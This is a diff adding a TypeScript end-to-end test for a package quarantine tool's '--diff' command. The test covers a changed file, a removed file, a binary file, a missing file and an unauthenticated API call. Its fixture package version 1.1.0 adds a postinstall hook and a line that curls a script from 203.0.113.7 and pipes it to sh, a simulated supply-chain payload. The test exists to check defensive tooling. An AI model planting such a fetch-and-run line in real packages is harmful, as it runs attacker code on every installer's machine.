@@ -76,3 +76,60 @@ test('airlock quarantine changes: the held version against the release before it
   assert.notEqual(unknown.code, 0);
   assert.match(unknown.output, /not found|no quarantine/i);
 });
+
+test('airlock quarantine changes --diff: a changed file line by line (diff -u), a removed one, a binary one by digest, and the reasons it refuses', async (t) => {
+  const EDITED = {
+    name: 'scripted-edits',
+    versions: [
+      {
+        version: '1.0.0',
+        publishedAt: '2024-01-01T00:00:00.000Z',
+        files: [
+          { path: 'lib/util.js', content: 'exports.a = 1;\nexports.b = 2;\nexports.c = 3;\nexports.d = 4;\nexports.e = 5;\n' },
+          { path: 'old.js', content: 'module.exports = "gone";\n' },
+          { path: 'logo.bin', content: Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x00, 0x01]) },
+        ],
+      },
+      {
+        version: '1.1.0',
+        publishedAt: '2024-02-01T00:00:00.000Z',
+        manifest: { scripts: { postinstall: 'node lib/util.js' } },
+        files: [
+          { path: 'lib/util.js', content: 'exports.a = 1;\nexports.b = 2;\nrequire("child_process").exec("curl -s http://203.0.113.7/p | sh");\nexports.c = 3;\nexports.d = 4;\nexports.e = 5;\n' },
+          { path: 'logo.bin', content: Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x00, 0x02]) },
+        ],
+      },
+    ],
+  };
+  const s = await e2e({ packages: [...FIXTURE_PACKAGES, EDITED] });
+  t.after(() => s.close());
+  const p = await s.project();
+  const held = await p.npm(['install', 'scripted-edits@1.1.0']);
+  const id = quarantineIdIn(held.output);
+  assert.notEqual(id, '', held.output);
+
+  const changed = await s.cli(['quarantine', 'changes', id, '--diff', 'lib/util.js']);
+  assert.equal(changed.code, 0, changed.output);
+  const [head, counts, ...rest] = changed.stdout.split('\n');
+  assert.match(head ?? '', /^pkg:npm\/scripted-edits@1\.1\.0 lib\/util\.js: against 1\.0\.0 \(before: 75 bytes, sha256 [0-9a-f]{16}…; after: 143 bytes, sha256 [0-9a-f]{16}…\)$/);
+  assert.equal(counts, '+1 -0 lines');
+  assert.equal(
+    rest.join('\n'),
+    ['--- a/lib/util.js', '+++ b/lib/util.js', '@@ -1,5 +1,6 @@', ' exports.a = 1;', ' exports.b = 2;', '+require("child_process").exec("curl -s http://203.0.113.7/p | sh");', ' exports.c = 3;', ' exports.d = 4;', ' exports.e = 5;', ''].join('\n'),
+  );
+
+  const gone = JSON.parse((await s.cli(['quarantine', 'changes', id, '--diff', 'old.js', '--format', 'json'])).stdout) as { after: unknown; removed: number; unified: string };
+  assert.equal(gone.after, null);
+  assert.equal(gone.removed, 1);
+  assert.equal(gone.unified, '--- a/old.js\n+++ /dev/null\n@@ -1 +0,0 @@\n-module.exports = "gone";\n');
+
+  const binary = await s.cli(['quarantine', 'changes', id, '--diff', 'logo.bin']);
+  assert.equal(binary.code, 0, binary.output);
+  assert.match(binary.stdout, /\nnot text \(binary, or not UTF-8\): compared by digest only\n$/);
+
+  const missing = await s.cli(['quarantine', 'changes', id, '--diff', 'nowhere.js']);
+  assert.notEqual(missing.code, 0);
+  assert.match(missing.output, /neither 1\.1\.0 nor 1\.0\.0 has the file "nowhere\.js"/);
+  const anonymous = await fetch(`${s.airlock.url}/-/api/quarantine/${id}/changes/diff?path=lib%2Futil.js`);
+  assert.equal(anonymous.status, 401);
+});
